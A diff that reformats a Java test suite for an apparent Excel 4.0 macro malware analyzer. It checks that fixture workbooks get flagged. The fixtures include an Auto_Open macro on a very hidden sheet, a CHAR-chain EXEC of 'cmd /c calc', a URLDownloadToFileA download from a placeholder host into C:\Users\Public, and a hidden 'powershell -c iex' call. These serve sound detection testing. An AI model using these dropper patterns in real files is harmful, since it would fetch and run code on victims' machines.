@@ -38,13 +38,35 @@ class XlmAnalyzerTest {
 
     static byte[] droppingWorkbook() {
         List<byte[]> formulas = List.of(
-                tokens(integer(99), func(CHAR), integer(109), func(CHAR), CONCAT, integer(100), func(CHAR), CONCAT, str(" /c calc", true), CONCAT,
+                tokens(
+                        integer(99),
+                        func(CHAR),
+                        integer(109),
+                        func(CHAR),
+                        CONCAT,
+                        integer(100),
+                        func(CHAR),
+                        CONCAT,
+                        str(" /c calc", true),
+                        CONCAT,
                         funcVar(1, EXEC, false)),
-                tokens(str("urlmon", true), str("URLDownloadToFileA", true), str("JJCCJJ", true), integer(0),
-                        str("http://x.example/p.exe", true), str("C:\\Users\\Public\\p.exe", true), integer(0), integer(0), funcVar(8, CALL, false)),
+                tokens(
+                        str("urlmon", true),
+                        str("URLDownloadToFileA", true),
+                        str("JJCCJJ", true),
+                        integer(0),
+                        str("http://x.example/p.exe", true),
+                        str("C:\\Users\\Public\\p.exe", true),
+                        integer(0),
+                        integer(0),
+                        funcVar(8, CALL, false)),
                 tokens(funcVar(0, HALT, false)));
-        return BiffFixtures.xls(true, List.of(new BiffFixtures.Sheet("Sheet1", 0, 0, List.of()),
-                new BiffFixtures.Sheet("Macro1", 1, 2, formulas)), List.of(new BiffFixtures.Name(null, 1)));
+        return BiffFixtures.xls(
+                true,
+                List.of(
+                        new BiffFixtures.Sheet("Sheet1", 0, 0, List.of()),
+                        new BiffFixtures.Sheet("Macro1", 1, 2, formulas)),
+                List.of(new BiffFixtures.Name(null, 1)));
     }
 
     @Test
@@ -55,29 +77,44 @@ class XlmAnalyzerTest {
         assertEquals("Macro1", sheet.evidence().get("sheet"));
         assertEquals("very-hidden", sheet.evidence().get("state"));
         assertEquals("biff8", sheet.evidence().get("format"));
-        assertEquals("Auto_Open", findings(report, "xlm.auto-open").get(0).evidence().get("name"));
-        assertEquals("=Macro1!R1C1", findings(report, "xlm.auto-open").get(0).evidence().get("refersTo"));
+        assertEquals(
+                "Auto_Open", findings(report, "xlm.auto-open").get(0).evidence().get("name"));
+        assertEquals(
+                "=Macro1!R1C1",
+                findings(report, "xlm.auto-open").get(0).evidence().get("refersTo"));
         Finding rule = findings(report, "xlm.autoexec-execute").get(0);
         assertEquals(Severity.CRITICAL, rule.severity());
         assertEquals("EXEC", rule.evidence().get("action"));
-        assertEquals("=EXEC(CHAR(99)&CHAR(109)&CHAR(100)&\" /c calc\")", rule.evidence().get("formula"));
-        assertEquals("cmd /c calc", findings(report, "xlm.char-chain").get(0).evidence().get("decoded"));
-        assertTrue(findings(report, "xlm.string").stream().anyMatch(f -> "URLDownloadToFileA".equals(f.evidence().get("keyword"))));
-        assertTrue(findings(report, "xlm.ioc").stream().anyMatch(f -> "http://x.example/p.exe".equals(f.evidence().get("value"))));
+        assertEquals(
+                "=EXEC(CHAR(99)&CHAR(109)&CHAR(100)&\" /c calc\")",
+                rule.evidence().get("formula"));
+        assertEquals(
+                "cmd /c calc",
+                findings(report, "xlm.char-chain").get(0).evidence().get("decoded"));
+        assertTrue(findings(report, "xlm.string").stream()
+                .anyMatch(f -> "URLDownloadToFileA".equals(f.evidence().get("keyword"))));
+        assertTrue(findings(report, "xlm.ioc").stream()
+                .anyMatch(f -> "http://x.example/p.exe".equals(f.evidence().get("value"))));
         Golden.assertMatches("xlm_auto_open_exec_very_hidden", TestEngines.node(report, "order.xls"));
     }
 
     @Test
     void biff5AlertMacroWithAutoOpenIsSuspiciousNotMalicious() {
-        List<byte[]> formulas = List.of(tokens(str("hello", false), funcVar(1, ALERT_CETAB, true)), tokens(funcVar(0, HALT, false)));
-        byte[] xls = BiffFixtures.xls(false, List.of(new BiffFixtures.Sheet("Macro1", 1, 0, formulas)), List.of(new BiffFixtures.Name(null, 1)));
+        List<byte[]> formulas =
+                List.of(tokens(str("hello", false), funcVar(1, ALERT_CETAB, true)), tokens(funcVar(0, HALT, false)));
+        byte[] xls = BiffFixtures.xls(
+                false,
+                List.of(new BiffFixtures.Sheet("Macro1", 1, 0, formulas)),
+                List.of(new BiffFixtures.Name(null, 1)));
         Report report = TestEngines.scanFile("alert.xls", xls);
         assertEquals(Verdict.SUSPICIOUS, report.verdict(), report.findings().toString());
-        assertEquals("biff5", findings(report, "xlm.macro-sheet").get(0).evidence().get("format"));
+        assertEquals(
+                "biff5", findings(report, "xlm.macro-sheet").get(0).evidence().get("format"));
         assertFalse(TestEngines.codes(report).contains("xlm.autoexec-execute"));
         assertFalse(TestEngines.codes(report).contains("xlm.hidden-sheet"));
         @SuppressWarnings("unchecked")
-        Map<String, Object> xlm = (Map<String, Object>) TestEngines.node(report, "alert.xls").facts().get("xlm");
+        Map<String, Object> xlm = (Map<String, Object>)
+                TestEngines.node(report, "alert.xls").facts().get("xlm");
         String facts = xlm.toString();
         assertTrue(facts.contains("R1C1: =ALERT(\"hello\")"), facts);
         assertTrue(facts.contains("R2C1: =HALT()"), facts);
@@ -85,16 +122,21 @@ class XlmAnalyzerTest {
 
     @Test
     void namesBeginningWithAutoOpenRunToo() {
-        byte[] xls = BiffFixtures.xls(true, List.of(new BiffFixtures.Sheet("M", 1, 1, List.of(tokens(str("calc", true), funcVar(1, EXEC, false))))),
+        byte[] xls = BiffFixtures.xls(
+                true,
+                List.of(new BiffFixtures.Sheet("M", 1, 1, List.of(tokens(str("calc", true), funcVar(1, EXEC, false))))),
                 List.of(new BiffFixtures.Name("auto_open_x1", 0)));
         Report report = TestEngines.scanFile("n.xls", xls);
-        assertEquals("auto_open_x1", findings(report, "xlm.auto-open").get(0).evidence().get("name"));
+        assertEquals(
+                "auto_open_x1",
+                findings(report, "xlm.auto-open").get(0).evidence().get("name"));
         assertEquals(Verdict.MALICIOUS, report.verdict());
     }
 
     @Test
     void manyCharChainsAreCappedNotOneFindingEach() {
-        byte[] chain = tokens(integer(65), func(CHAR), integer(66), func(CHAR), CONCAT, integer(67), func(CHAR), CONCAT);
+        byte[] chain =
+                tokens(integer(65), func(CHAR), integer(66), func(CHAR), CONCAT, integer(67), func(CHAR), CONCAT);
         List<byte[]> formulas = java.util.Collections.nCopies(60, chain);
         byte[] xls = BiffFixtures.xls(true, List.of(new BiffFixtures.Sheet("M", 1, 0, formulas)), List.of());
         List<Finding> chains = findings(TestEngines.scanFile("c.xls", xls), "xlm.char-chain");
@@ -105,7 +147,11 @@ class XlmAnalyzerTest {
 
     @Test
     void workbookWithoutMacroSheetHasNoFinding() {
-        byte[] xls = BiffFixtures.xls(true, List.of(new BiffFixtures.Sheet("Sheet1", 0, 0, List.of(tokens(integer(1), integer(2), new byte[] {0x03})))), List.of());
+        byte[] xls = BiffFixtures.xls(
+                true,
+                List.of(new BiffFixtures.Sheet(
+                        "Sheet1", 0, 0, List.of(tokens(integer(1), integer(2), new byte[] {0x03})))),
+                List.of());
         Report report = TestEngines.scanFile("plain.xls", xls);
         assertEquals(Verdict.CLEAN, report.verdict(), report.findings().toString());
         assertTrue(report.findings().isEmpty(), report.findings().toString());
@@ -113,12 +159,18 @@ class XlmAnalyzerTest {
 
     @Test
     void truncatedWorkbookStreamIsAParseFinding() {
-        byte[] stream = BiffFixtures.workbookStream(true, List.of(new BiffFixtures.Sheet("Macro1", 1, 0, List.of(tokens(str("calc", true), funcVar(1, EXEC, false))))), List.of());
+        byte[] stream = BiffFixtures.workbookStream(
+                true,
+                List.of(new BiffFixtures.Sheet(
+                        "Macro1", 1, 0, List.of(tokens(str("calc", true), funcVar(1, EXEC, false))))),
+                List.of());
         byte[] cut = java.util.Arrays.copyOf(stream, stream.length - 3);
         try (var fs = new org.apache.poi.poifs.filesystem.POIFSFileSystem()) {
             fs.createDocument(new java.io.ByteArrayInputStream(cut), "Workbook");
             Report report = TestEngines.scanFile("cut.xls", MacroFixtures.bytes(fs));
-            assertTrue(TestEngines.codes(report).contains("parse.xlm"), report.findings().toString());
+            assertTrue(
+                    TestEngines.codes(report).contains("parse.xlm"),
+                    report.findings().toString());
             assertTrue(TestEngines.codes(report).contains("xlm.macro-sheet"), "what was read is kept");
         } catch (java.io.IOException e) {
             throw new java.io.UncheckedIOException(e);
@@ -126,32 +178,53 @@ class XlmAnalyzerTest {
     }
 
     static byte[] xlsm(String macroSheetXml, String state, String definedName, boolean binary) {
-        String mainType = binary ? "application/vnd.ms-excel.sheet.binary.macroEnabled.main" : "application/vnd.ms-excel.sheet.macroEnabled.main+xml";
+        String mainType = binary
+                ? "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
+                : "application/vnd.ms-excel.sheet.macroEnabled.main+xml";
         String workbookPart = binary ? "xl/workbook.bin" : "xl/workbook.xml";
         String sheetPart = binary ? "xl/macrosheets/sheet1.bin" : "xl/macrosheets/sheet1.xml";
         String sheetType = binary ? "application/vnd.ms-excel.macrosheet" : "application/vnd.ms-excel.macrosheet+xml";
         Map<String, byte[]> parts = new LinkedHashMap<>();
-        parts.put("[Content_Types].xml", ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
-                + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
-                + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
-                + "<Override PartName=\"/" + workbookPart + "\" ContentType=\"" + mainType + "\"/>"
-                + "<Override PartName=\"/" + sheetPart + "\" ContentType=\"" + sheetType + "\"/></Types>").getBytes(StandardCharsets.UTF_8));
-        parts.put("_rels/.rels", ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
-                + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"" + workbookPart + "\"/>"
-                + "</Relationships>").getBytes(StandardCharsets.UTF_8));
-        parts.put("xl/_rels/" + (binary ? "workbook.bin.rels" : "workbook.xml.rels"), ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
-                + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
-                + "<Relationship Id=\"rId1\" Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" Target=\"macrosheets/sheet1." + (binary ? "bin" : "xml") + "\"/>"
-                + "</Relationships>").getBytes(StandardCharsets.UTF_8));
+        parts.put(
+                "[Content_Types].xml",
+                ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
+                                + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
+                                + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
+                                + "<Override PartName=\"/" + workbookPart + "\" ContentType=\"" + mainType + "\"/>"
+                                + "<Override PartName=\"/" + sheetPart + "\" ContentType=\"" + sheetType
+                                + "\"/></Types>")
+                        .getBytes(StandardCharsets.UTF_8));
+        parts.put(
+                "_rels/.rels",
+                ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+                                + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\""
+                                + workbookPart + "\"/>"
+                                + "</Relationships>")
+                        .getBytes(StandardCharsets.UTF_8));
+        parts.put(
+                "xl/_rels/" + (binary ? "workbook.bin.rels" : "workbook.xml.rels"),
+                ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
+                                + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+                                + "<Relationship Id=\"rId1\" Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" Target=\"macrosheets/sheet1."
+                                + (binary ? "bin" : "xml") + "\"/>"
+                                + "</Relationships>")
+                        .getBytes(StandardCharsets.UTF_8));
         if (binary) {
             parts.put(workbookPart, xlsbWorkbook());
             parts.put(sheetPart, xlsbMacroSheet());
         } else {
-            parts.put(workbookPart, ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
-                    + "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets>"
-                    + "<sheet name=\"Macro1\" sheetId=\"1\"" + (state == null ? "" : " state=\"" + state + "\"") + " r:id=\"rId1\"/></sheets>"
-                    + (definedName == null ? "" : "<definedNames><definedName name=\"" + definedName + "\">Macro1!$A$1</definedName></definedNames>")
-                    + "</workbook>").getBytes(StandardCharsets.UTF_8));
+            parts.put(
+                    workbookPart,
+                    ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
+                                    + "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets>"
+                                    + "<sheet name=\"Macro1\" sheetId=\"1\""
+                                    + (state == null ? "" : " state=\"" + state + "\"") + " r:id=\"rId1\"/></sheets>"
+                                    + (definedName == null
+                                            ? ""
+                                            : "<definedNames><definedName name=\"" + definedName
+                                                    + "\">Macro1!$A$1</definedName></definedNames>")
+                                    + "</workbook>")
+                            .getBytes(StandardCharsets.UTF_8));
             parts.put(sheetPart, macroSheetXml.getBytes(StandardCharsets.UTF_8));
         }
         return MacroFixtures.zip(parts);
@@ -183,28 +256,50 @@ class XlmAnalyzerTest {
         java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
         biff12(out, 131, new byte[0]);
         biff12(out, 156, tokens(MacroFixtures.le32(2), MacroFixtures.le32(1), wide("rId1"), wide("Macro1")));
-        biff12(out, 39, tokens(MacroFixtures.le32(0x20), new byte[] {0}, MacroFixtures.le32(0xffffffffL), wide("Auto_Open"), MacroFixtures.le32(0)));
+        biff12(
+                out,
+                39,
+                tokens(
+                        MacroFixtures.le32(0x20),
+                        new byte[] {0},
+                        MacroFixtures.le32(0xffffffffL),
+                        wide("Auto_Open"),
+                        MacroFixtures.le32(0)));
         biff12(out, 132, new byte[0]);
         return out.toByteArray();
     }
 
     /** A row header and a BrtFmlaBool in A1 holding EXEC("calc.exe") in BIFF12 tokens (PtgStr: 2-byte length, UTF-16). */
     static byte[] xlsbMacroSheet() {
-        byte[] rgce = tokens(new byte[] {0x17}, MacroFixtures.le16(8), "calc.exe".getBytes(StandardCharsets.UTF_16LE), funcVar(1, EXEC, false));
+        byte[] rgce = tokens(
+                new byte[] {0x17},
+                MacroFixtures.le16(8),
+                "calc.exe".getBytes(StandardCharsets.UTF_16LE),
+                funcVar(1, EXEC, false));
         java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
         biff12(out, 129, new byte[0]);
         biff12(out, 0, tokens(MacroFixtures.le32(0), new byte[13]));
-        biff12(out, 10, tokens(MacroFixtures.le32(0), MacroFixtures.le32(0), new byte[] {0}, MacroFixtures.le16(0),
-                MacroFixtures.le32(rgce.length), rgce, MacroFixtures.le32(0)));
+        biff12(
+                out,
+                10,
+                tokens(
+                        MacroFixtures.le32(0),
+                        MacroFixtures.le32(0),
+                        new byte[] {0},
+                        MacroFixtures.le16(0),
+                        MacroFixtures.le32(rgce.length),
+                        rgce,
+                        MacroFixtures.le32(0)));
         biff12(out, 130, new byte[0]);
         return out.toByteArray();
     }
 
-    private static final String EXEC_SHEET = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><xm:macrosheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
-            + "xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData>"
-            + "<row r=\"1\"><c r=\"A1\"><f>GET.WORKSPACE(1)</f></c></row>"
-            + "<row r=\"2\"><c r=\"A2\"><f>EXEC(\"powershell -w hidden -c iex\")</f></c></row>"
-            + "<row r=\"3\"><c r=\"A3\"><f>HALT()</f></c></row></sheetData></xm:macrosheet>";
+    private static final String EXEC_SHEET =
+            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><xm:macrosheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
+                    + "xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData>"
+                    + "<row r=\"1\"><c r=\"A1\"><f>GET.WORKSPACE(1)</f></c></row>"
+                    + "<row r=\"2\"><c r=\"A2\"><f>EXEC(\"powershell -w hidden -c iex\")</f></c></row>"
+                    + "<row r=\"3\"><c r=\"A3\"><f>HALT()</f></c></row></sheetData></xm:macrosheet>";
 
     @Test
     void xlsmMacroSheetWithAutoOpenAndExecIsMalicious() {
@@ -214,8 +309,10 @@ class XlmAnalyzerTest {
         assertEquals("Macro1", sheet.evidence().get("sheet"));
         assertEquals("very-hidden", sheet.evidence().get("state"));
         assertEquals("xlsm", sheet.evidence().get("format"));
-        assertTrue(findings(report, "xlm.function").stream().anyMatch(f -> "GET.WORKSPACE".equals(f.evidence().get("keyword"))));
-        assertEquals("A2", findings(report, "xlm.autoexec-execute").get(0).evidence().get("cell"));
+        assertTrue(findings(report, "xlm.function").stream()
+                .anyMatch(f -> "GET.WORKSPACE".equals(f.evidence().get("keyword"))));
+        assertEquals(
+                "A2", findings(report, "xlm.autoexec-execute").get(0).evidence().get("cell"));
     }
 
     @Test
@@ -233,10 +330,12 @@ class XlmAnalyzerTest {
 
     @Test
     void sylkWithAutoOpenAndExecIsMalicious() {
-        String slk = "ID;PWXL;N;E\r\nO;L;E;D;V0;K47;G100 0.001\r\nNN;NAuto_open;ER1C1\r\nC;Y1;X1;K0;EEXEC(\"cmd /c calc\")\r\nC;Y2;K0;EHALT()\r\nE\r\n";
+        String slk =
+                "ID;PWXL;N;E\r\nO;L;E;D;V0;K47;G100 0.001\r\nNN;NAuto_open;ER1C1\r\nC;Y1;X1;K0;EEXEC(\"cmd /c calc\")\r\nC;Y2;K0;EHALT()\r\nE\r\n";
         Report report = TestEngines.scanFile("x.slk", slk.getBytes(StandardCharsets.ISO_8859_1));
         assertEquals(Verdict.MALICIOUS, report.verdict(), report.findings().toString());
-        assertEquals("slk", findings(report, "xlm.macro-sheet").get(0).evidence().get("format"));
+        assertEquals(
+                "slk", findings(report, "xlm.macro-sheet").get(0).evidence().get("format"));
         assertFalse(TestEngines.codes(report).contains("type.macro-capable-uninspected"));
     }
 
@@ -244,6 +343,8 @@ class XlmAnalyzerTest {
     void plainSylkDataStaysClean() {
         String slk = "ID;PWXL;N;E\r\nC;Y1;X1;K42\r\nC;Y1;X2;K43;ESUM(R1C1,1)\r\nE\r\n";
         Report report = TestEngines.scanFile("data.slk", slk.getBytes(StandardCharsets.ISO_8859_1));
-        assertTrue(report.findings().stream().noneMatch(f -> f.code().startsWith("xlm.")), report.findings().toString());
+        assertTrue(
+                report.findings().stream().noneMatch(f -> f.code().startsWith("xlm.")),
+                report.findings().toString());
     }
 }
